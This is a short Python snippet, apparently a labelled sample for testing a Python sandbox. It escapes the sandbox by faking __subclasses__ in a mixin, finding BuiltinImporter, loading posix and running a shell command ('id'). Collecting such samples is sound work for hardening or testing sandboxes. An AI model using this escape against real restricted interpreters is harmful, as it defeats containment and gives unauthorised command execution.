# HARM: shell via BuiltinImporter | TRICK: override lives in an unrelated mixin class Mixin, Base inherits it (bases are own classes)
class Mixin:
    def __subclasses__():
        return [object]
class Base(Mixin): pass
class A(Base): pass
for top in Base.__subclasses__():
    for k in top.__subclasses__():
        if k.__name__ == "BuiltinImporter":
            k.load_module("posix").system("id")
